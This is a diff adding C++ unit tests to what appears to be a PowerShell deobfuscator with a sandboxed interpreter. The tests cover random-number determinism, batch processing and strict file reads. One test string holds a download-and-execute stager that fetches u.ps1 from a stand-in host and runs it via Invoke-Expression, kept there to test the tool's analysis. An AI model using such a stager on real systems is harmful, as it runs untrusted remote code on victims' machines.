@@ -3,6 +3,11 @@
 
 #include <gtest/gtest.h>
 
+#include <thread>
+#include <vector>
+
+#include "ideobf/api.h"
+
 #include "core/token_pass.h"
 #include "psast/diagnostics.h"
 #include "psast/parser.h"
@@ -218,6 +223,94 @@ TEST(Diagnostics, LongLinesAreWindowed) {
   while (std::getline(stream, line)) {
     EXPECT_LE(line.size(), 140u);
   }
+}
+
+// ------------------------------------------------------------ Get-Random
+
+std::vector<std::int64_t> draws(int n) {
+  Interpreter interp;
+  std::vector<std::int64_t> out;
+  for (int i = 0; i < n; ++i) {
+    out.push_back(interp.evaluate_script("Get-Random -Maximum 1000").get_int());
+  }
+  return out;
+}
+
+TEST(GetRandom, EachInterpreterDrawsTheSameSequence) {
+  // Each interpreter owns its generator, seeded alike: what one draws does
+  // not depend on the draws of another, on this thread or any other.
+  const std::vector<std::int64_t> alone = draws(500);
+  std::vector<std::int64_t> a, b;
+  std::thread ta([&] { a = draws(500); });
+  std::thread tb([&] { b = draws(500); });
+  ta.join();
+  tb.join();
+  EXPECT_EQ(a, alone);
+  EXPECT_EQ(b, alone);
+  // A draw is a write: a record read before it must not replay after it.
+  Interpreter interp;
+  interp.mark_seeded();
+  (void)interp.evaluate_script("Get-Random");
+  EXPECT_TRUE(interp.wrote());
+}
+
+TEST(GetRandom, OneShotMatchesBatch) {
+  const std::vector<std::string> scripts = {
+      "$r = Get-Random -Maximum 100; Write-Host ('n' + $r)",
+      "$p = 1, 2, 3 | Get-Random; Write-Host ('p' + $p)",
+      "$r = Get-Random; $s = Get-Random; Write-Host ('' + $r + $s)",
+  };
+  std::vector<ideobf::Request> requests;
+  for (int copy = 0; copy < 4; ++copy) {
+    for (const std::string& script : scripts) {
+      ideobf::Request r;
+      r.source = script;
+      requests.push_back(r);
+    }
+  }
+  ideobf::Options options;
+  options.threads = 2;
+  const ideobf::Engine engine(options);
+  const std::vector<ideobf::Response> batch = engine.handle_batch(requests);
+  ASSERT_EQ(batch.size(), requests.size());
+  for (std::size_t i = 0; i < requests.size(); ++i) {
+    EXPECT_EQ(batch[i].result, engine.handle(requests[i]).result) << i;
+    EXPECT_EQ(batch[i].result, batch[i % scripts.size()].result) << i;
+  }
+}
+
+// ------------------------------------------------------------ file reads
+
+TEST(FileReads, StrictReadsOfUnwrittenFilesFail) {
+  InterpreterOptions strict_opts;
+  strict_opts.strict_variables = true;
+  for (const char* read :
+       {"Get-Content 'C:\\stage.ps1'", "[IO.File]::ReadAllText('C:\\s')",
+        "[IO.File]::ReadAllBytes('C:\\s')"}) {
+    Interpreter strict(strict_opts);
+    EXPECT_THROW((void)strict.evaluate_script(read), EvalError) << read;
+    // The sandbox reads a missing file as empty, as before.
+    Interpreter permissive;
+    EXPECT_NO_THROW((void)permissive.evaluate_script(read)) << read;
+  }
+  Interpreter strict(strict_opts);
+  EXPECT_EQ(strict
+                .evaluate_script("[IO.File]::WriteAllText('C:\\s', 'hi'); "
+                                 "Get-Content 'C:\\S'")
+                .to_display_string(),
+            "hi");
+}
+
+TEST(FileReads, StagersKeepTheirDownloadedScript) {
+  // The stage file is written by a blocked download: recovery must not
+  // read it as '' and unwrap the Invoke-Expression away.
+  const std::string script =
+      "$stage = Join-Path $env:TEMP 'u.ps1'; (New-Object Net.WebClient)."
+      "DownloadFile('http://x.example/u.ps1', $stage); Invoke-Expression "
+      "(Get-Content $stage)";
+  const ideobf::Response r = ideobf::Engine{}.handle({script});
+  EXPECT_NE(r.result.find("Get-Content"), std::string::npos) << r.result;
+  EXPECT_NE(r.result.find("Invoke-Expression"), std::string::npos) << r.result;
 }
 
 }  // namespace
